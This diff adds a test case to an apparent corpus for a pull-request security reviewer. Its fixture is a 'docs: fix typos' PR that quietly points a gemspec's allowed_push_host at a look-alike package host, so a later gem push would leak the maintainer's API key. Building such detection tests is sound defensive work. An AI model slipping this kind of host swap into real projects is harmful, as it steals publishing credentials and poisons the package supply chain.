@@ -611,6 +611,24 @@ export const CI_CASES: CorpusEntry[] = [
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-github-env'] },
   },
   {
+    id: 'ci-gemspec-push-host-swapped-under-docs-claim',
+    description:
+      "A first-time contributor's \"docs: fix typos\" corrects two words of the README and, in the gem's gemspec, moves allowed_push_host from rubygems.org to a look-alike package host: the next `gem push` of a release sends the maintainer's API key there. The string's host changed, not its words: a manifest written as code is read for it.",
+    fixture: ciPr(2204, {
+      title: 'docs: fix typos',
+      author: NEWCOMER,
+      files: [
+        { path: 'README.md', base: lines('# checkout-service', '', 'Recieve payments and ship orders.'), head: lines('# checkout-service', '', 'Receive payments and ship orders.') },
+        {
+          path: 'checkout_client.gemspec',
+          base: lines('Gem::Specification.new do |spec|', '  spec.name = "checkout_client"', '  spec.version = "2.4.0"', '  spec.summary = "Client for the checkout service."', '  spec.homepage = "https://github.com/acme/checkout-service"', '  spec.metadata["allowed_push_host"] = "https://rubygems.org"', '  spec.files = Dir["lib/**/*.rb"]', 'end'),
+          head: lines('Gem::Specification.new do |spec|', '  spec.name = "checkout_client"', '  spec.version = "2.4.0"', '  spec.summary = "Client for the checkout service."', '  spec.homepage = "https://github.com/acme/checkout-service"', '  spec.metadata["allowed_push_host"] = "https://rubygems-mirror.dev"', '  spec.files = Dir["lib/**/*.rb"]', 'end'),
+        },
+      ],
+    }),
+    expect: { level: ['medium', 'high'], action: ['needs_discussion', 'request_changes'], findings: ['pr-claim-mismatch'] },
+  },
+  {
     id: 'ci-secrets-inherit-third-party-main',
     description: 'Release moves to a vendor\'s reusable workflow at @main with secrets: inherit (every secret, code the vendor can change at any time).',
     fixture: ciPr(1958, {
